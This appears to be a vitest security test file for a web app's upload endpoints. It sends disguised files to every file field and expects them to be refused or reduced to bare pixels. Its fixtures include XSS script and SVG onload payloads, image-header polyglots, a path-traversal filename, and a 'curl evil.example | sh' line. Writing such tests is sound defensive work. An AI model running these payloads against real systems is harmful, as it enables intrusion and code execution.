// Untrusted files: every file field of every call, found in the schemas, gets files that are not what they claim. Nothing that
// a browser could run is stored, and a picture loses everything but its pixels.
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { routesOf } from '#server/api/routes.ts'
import { makePdf } from '#server/demo/demo-pdf.ts'
import { describedBy } from '../fuzz/described-values.ts'
import { createValidBody } from '../fuzz/valid-body.ts'
import { createTestApp, type Entered, NEW_USER_PASSWORD, type TestApp } from '../test-app.ts'
import { testPicture } from '../test-picture.ts'
import { readError } from './error-responses.ts'

const OPTIONS = {
  mailer: { send: async () => undefined },
  newUserPassword: NEW_USER_PASSWORD,
  mailIsSetUp: false,
}
const SCRIPT = '<script>alert(document.domain)</script>'
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`
const FILES: [what: string, content: string][] = [
  ['a page', HTML],
  ['a drawing that runs', SVG],
  ['a drawing behind an XML head', `<?xml version="1.0"?>${SVG}`],
  ['a picture’s first bytes and a page', `GIF89a/*${HTML}*/=1`],
  ['a PNG’s first bytes and a page', `\x89PNG\r\n\x1a\n${HTML}`],
  ['a program', '#!/bin/sh\ncurl evil.example | sh\n'],
  ['a Windows program', 'MZ\x90\0\x03'],
  ['an archive', 'PK\x03\x04\x14\0'],
  ['nothing but zeros', '\0'.repeat(2_000)],
]

type Taking = { title: string; method: string; path: string; field: string; rest: object }
const TAKING: Taking[] = routesOf(OPTIONS).flatMap(([method, path, , { documented }]) => {
  const { body } = documented
  // The export of a site is read in the background: site-import.test.ts.
  if (!body?.types.includes('multipart/form-data') || path.startsWith('/site-imports')) return []
  const described = describedBy(body.schema)
  return Object.entries(described.properties ?? {}).flatMap(([field, about]) =>
    typeof about === 'object' && about.format === 'binary'
      ? [
          {
            title: `${method} ${path}: ${field}`,
            method,
            path,
            field,
            rest: createValidBody(described, body.schema),
          },
        ]
      : [],
  )
})

const PDF = new Blob([Buffer.from(makePdf('A paper', [{ heading: 'A paper', lines: ['One'] }]))])

let site: TestApp
let admin: Entered
/** Ids for the calls about existing objects. */
const ids: Record<string, string> = {}
beforeAll(async () => {
  site = await createTestApp()
  admin = await site.signIn('admin')
  const make = async (path: string, fields: Record<string, string | Blob>) => {
    const form = new FormData()
    for (const [name, value] of Object.entries(fields)) form.append(name, value)
    return (await site.call(path, { method: 'POST', body: form, headers: admin.cookie })).json()
  }
  ids['/allposts/{id}'] = (await make('/api/allposts', { headline: 'A', status: 'draft' })).post._id
  ids['/newspapers/{id}'] = (
    await make('/api/newspapers', { title: 'A', issueDate: '2026-11-20', pdf: PDF })
  )._id
})
afterAll(() => site?.close())

function sendFile({ method, path, field, rest }: Taking, content: Blob): Promise<Response> {
  const form = new FormData()
  for (const [name, value] of Object.entries(rest)) if (name !== field) form.append(name, String(value))
  form.append(field, content, '../../../a.html')
  if (path === '/newspapers' && field !== 'pdf') form.append('pdf', PDF)
  const address = path.replace(/\{\w+\}/, ids[path] ?? 'none')
  return site.call(`/api${address}`, { method, body: form, headers: admin.cookie })
}

test('all file fields are known', () => {
  expect(TAKING.map(({ title }) => title).toSorted()).toEqual([
    'POST /allposts: image',
    'POST /media: image',
    'POST /newspapers: cover',
    'POST /newspapers: pdf',
    'POST /upload-json: jsonFile',
    'PUT /allposts/{id}: image',
    'PUT /newspapers/{id}: cover',
    'PUT /newspapers/{id}: pdf',
  ])
})

describe.each(TAKING)('$title', (taking) => {
  test.each(FILES)('refuses %s', async (_what, content) => {
    // The declared content type is ignored.
    const file = new Blob([Buffer.from(content, 'latin1')], { type: 'image/png' })
    const { status, code } = await readError(await sendFile(taking, file))
    expect(status).toBe(400)
    expect(code).toMatch(/^(IMAGE_UNREADABLE|FILE_NOT_\w+|FILE_TRUNCATED|FILE_GOES_ON)$/)
  })
})

test('a picture with appended HTML is stored as a picture only', async () => {
  const picture = Buffer.concat([await testPicture(), Buffer.from(HTML)])
  const media = TAKING.find(({ title }) => title === 'POST /media: image')
  if (!media) throw new Error('POST /media takes no file')
  const answer = await sendFile(media, new Blob([picture]))
  expect(answer.status).toBe(201)
  const { imageUrl, thumbUrl, cardUrl } = await answer.json()
  for (const url of [imageUrl, thumbUrl, cardUrl]) {
    const served = await site.call(new URL(url, 'http://localhost:3000').pathname)
    expect([served.status, served.headers.get('content-type')]).toEqual([
      200,
      expect.stringMatching(/^image\/(webp|jpeg)$/),
    ])
    expect(Buffer.from(await served.bytes()).includes('<script')).toBe(false)
  }
})
